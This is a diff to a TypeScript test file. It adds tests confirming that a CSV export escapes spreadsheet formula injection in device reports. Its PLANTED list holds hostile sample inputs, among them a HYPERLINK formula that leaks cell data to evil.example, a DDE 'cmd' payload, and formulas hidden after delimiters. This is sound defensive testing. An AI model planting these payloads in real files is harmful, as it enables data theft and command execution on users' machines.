@@ -37,6 +37,45 @@ function parseCsv(text: string): string[][] {
   return records;
 }
 
+/**
+ * The cells a spreadsheet sees when it opens `text` with `delimiter`, as Excel reads a CSV file: a quote opens a
+ * quoted field only at a field's start (`""` inside is a quote), text after its closing quote is kept, and a
+ * quote elsewhere is a character. `naive` reads with no quoting at all (every delimiter and line break splits).
+ */
+function cellsAs(text: string, delimiter: string, naive = false): string[] {
+  if (naive) return text.split(/\r\n|\n|\r/).flatMap((line) => line.split(delimiter));
+  const cells: string[] = [];
+  let field = '';
+  let fieldStart = true;
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i];
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (ch === '"') quoted = false;
+      else field += ch;
+    } else if (ch === '"' && fieldStart) {
+      quoted = true;
+      fieldStart = false;
+    } else if (ch === delimiter || ch === '\n' || ch === '\r') {
+      cells.push(field);
+      field = '';
+      fieldStart = true;
+    } else {
+      field += ch;
+      fieldStart = false;
+    }
+  }
+  cells.push(field);
+  return cells;
+}
+
+/** Cells a spreadsheet would run as a formula: = + - @ first, past spaces and quotes (not a plain number). */
+const liveFormulas = (cells: string[]) =>
+  cells.filter((cell) => /^[=+\-@]/.test(cell.replace(/^[\s"]+/, '')) && !/^[+-]?\d+(\.\d+)?$/.test(cell.trim())).length;
+
 async function exportCsv(h: Harness, path: string, query: Record<string, string | number>, token = h.tokens.admin) {
   const response = await h.app.inject({ method: 'GET', url: `${path}/export.csv?${new URLSearchParams(Object.entries(query).map(([k, v]) => [k, String(v)]))}`, headers: { authorization: token } });
   return { status: response.statusCode, headers: response.headers, body: response.body };
@@ -47,9 +86,39 @@ it('quotes fields by RFC 4180 and defuses text a spreadsheet would run as a form
   expect(csvField('a,b "c"')).toBe('"a,b ""c"""');
   expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
   expect(csvField('=HYPERLINK("http://x")')).toBe(`"'=HYPERLINK(""http://x"")"`);
-  expect(['+1', '-1+2', '@SUM(A1)', '\tx'].map(csvField)).toEqual(["'+1", "'-1+2", "'@SUM(A1)", "'\tx"]);
+  expect(['+1', '-1+2', '@SUM(A1)', '\tx'].map(csvField)).toEqual(["'+1", "'-1+2", "'@SUM(A1)", `"'\tx"`]);
   expect(csvField(-5)).toBe('-5');
 });
+
+it('defuses a formula that starts after a delimiter a spreadsheet may read the file with, or after a line break', () => {
+  expect(csvField('a;=SUM(A1)')).toBe(`"a;'=SUM(A1)"`);
+  expect(csvField('a\t+1')).toBe(`"a\t'+1"`);
+  expect(csvField('a, -1+2')).toBe(`"a, '-1+2"`);
+  expect(csvField('a;"@SUM(A1)"')).toBe(`"a;""'@SUM(A1)"""`);
+  expect(csvField('two\n=lines')).toBe(`"two\n'=lines"`);
+  expect(csvField('a;b 1-2 x@y.io')).toBe('"a;b 1-2 x@y.io"');
+});
+
+/** What the audit planted through anonymous device reports: formulas at a field's start and after each delimiter. */
+const PLANTED = [
+  '=HYPERLINK("http://evil.example/?"&A1,"help")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+  'x;=1+1',
+  'x\t=1+1',
+  'x,=1+1',
+  'x;"=1+1"',
+  'x; =1+1',
+  'x\n=1+1',
+  'x\r\n@SUM(1)',
+  'a;b;-3+4;+5+6',
+  'a,"b;=1+1",c',
+  '"";=1+1',
+  'x;""=1+1',
+];
 
 forEachDialect('CSV export', (h) => {
   it('exports every row the filters match, with the column titles, values as the list shows them', async () => {
@@ -96,6 +165,20 @@ forEachDialect('CSV export', (h) => {
     const ids = byDefault.map((r) => Number(r[0]));
     expect(ids).toHaveLength(total);
     expect(ids).toEqual([...ids].sort((a, b) => b - a));
+  });
+
+  it('exports device reports with planted formulas so that no delimiter (, ; tab), quoted or not, gives a live formula', async () => {
+    for (const [i, text] of PLANTED.entries()) {
+      const body = { appInstallId: `planted-${i}`, login: text, email: text, version: text.slice(0, 50), userId: text, whitelabel: text, platform: text };
+      expect((await h.call('POST', '/v1/appinfo/report', { body })).status).toBe(200);
+    }
+    const csv = (await exportCsv(h, '/v1/admin/appinfo/get', { appInstallId: 'planted-' })).body.replace(/^\ufeff/, '');
+    const counts = Object.fromEntries([',', ';', '\t'].flatMap((d) => [[d, liveFormulas(cellsAs(csv, d))], [`${d} unquoted`, liveFormulas(cellsAs(csv, d, true))]]));
+    expect(counts).toEqual({ ',': 0, ', unquoted': 0, ';': 0, '; unquoted': 0, '\t': 0, '\t unquoted': 0 });
+    // Read with `,` (the file's own delimiter), every planted text is there, only defused with apostrophes.
+    const [head, ...rows] = parseCsv(csv);
+    const login = head.indexOf('Login');
+    expect(rows.map((r) => r[login].replace(/'/g, '')).sort()).toEqual(PLANTED.map((t) => t.replace(/'/g, '')).sort());
   });
 
   it('admits exactly the roles of the list call', async () => {
